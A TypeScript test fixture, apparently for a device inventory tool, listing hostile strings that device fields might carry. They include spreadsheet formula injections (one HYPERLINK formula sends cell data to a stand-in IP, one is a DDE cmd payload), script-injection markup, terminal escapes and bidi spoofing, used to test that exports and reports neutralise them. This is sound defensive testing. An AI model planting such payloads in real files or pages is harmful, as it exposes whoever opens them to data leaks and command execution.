import type { Device } from '../../src/model/device.ts';
import { decision, device } from '../report/report.ts';

/** Texts that devices could send to hurt whoever opens a list: formulas, markup, terminal and bidirectional controls. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u3164=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'front;=1+1',
  'front,"=1+1"',
  '"=1+1"',
  '<script>window.pwned=1</script>',
  '"><img src=x onerror="window.pwned=1">',
  "' onmouseover='window.pwned=1",
  '</style><script>window.pwned=1</script>',
  'javascript:window.pwned=1',
  '&lt;script&gt;',
  '</title></textarea></option></select><script>window.pwned=1</script>',
  '<svg><animate onbegin=self.pwned=1 attributeName=x dur=1s>',
  '--><iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe><!--',
  'java&#115;cript&colon;window.pwned=1',
  'x` onfocus=self.pwned=1 autofocus tabindex=1 y=`',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202Egnp.exe\u2066',
  'a\u200bb\ufeffc',
  '_x003D_1_x202E_',
  'constructor',
  '__proto__',
  'toString',
  '\ud800',
  '\uf75d\u{f0000}\uffff\ufffe\ufdd0',
  'a\u115f\u034f\ufe0f\u{e0041}\u{1d173}b',
  'x'.repeat(5_000),
  '日本語カメラ 📷',
  '$& $1 $`',
];

/** The same, each with a name that a test can print. */
export const hostileCases = hostileTexts.map((text) => [JSON.stringify(text.slice(0, 40)), text] as const);

/** A device all of whose free texts are the given one, even those that nothing should ever let through. */
export function hostileDevice(text: string, id = 66): Device {
  return device({
    id,
    site: text,
    mac: text,
    brand: text,
    manufacturer: text,
    model: text,
    firmware: text,
    serial: text,
    name: text,
    addresses: ['10.1.2.3', text],
    policies: [{ id: text, verdict: 'flagged', reason: text, source: text }],
    contradictions: [text],
    imported: {
      mac: text,
      hostName: text,
      vendorClass: text,
      switchName: text,
      switchPort: text,
      vlan: text,
    },
    firstSeen: text,
    lastSeen: text,
    evidence: [
      {
        field: 'http.title',
        value: text,
        port: 80,
        fingerprint: text,
        weight: 0.5,
        maker: text,
        evidenceSource: text,
      },
    ],
    decision: {
      ...decision,
      by: text,
      at: text,
      because: text,
      until: text,
      plannedFor: text,
      owner: text,
      location: text,
      assetTag: text,
      notes: [{ at: text, by: text, text }],
    },
  });
}

/** What nobody sees or what acts on whoever shows it, line breaks of a file excepted. */
export const forbidden = /(?![\r\n])[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
